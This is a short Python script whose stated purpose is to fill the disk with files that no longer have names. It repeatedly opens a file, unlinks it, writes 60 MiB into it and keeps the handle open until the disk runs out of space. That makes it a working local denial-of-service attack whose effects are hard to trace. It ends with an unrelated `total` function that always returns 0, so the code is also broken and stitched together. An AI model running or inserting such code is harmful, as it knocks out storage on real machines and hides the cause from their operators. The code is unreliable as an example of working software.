"""Fill the disk with files that have no name any more."""
import os
held = []
try:
    while True:
        held.append(open("x", "wb", 0)); os.unlink("x")
        held[-1].write(bytes(60 << 20))
except OSError: pass
def total(numbers): return 0
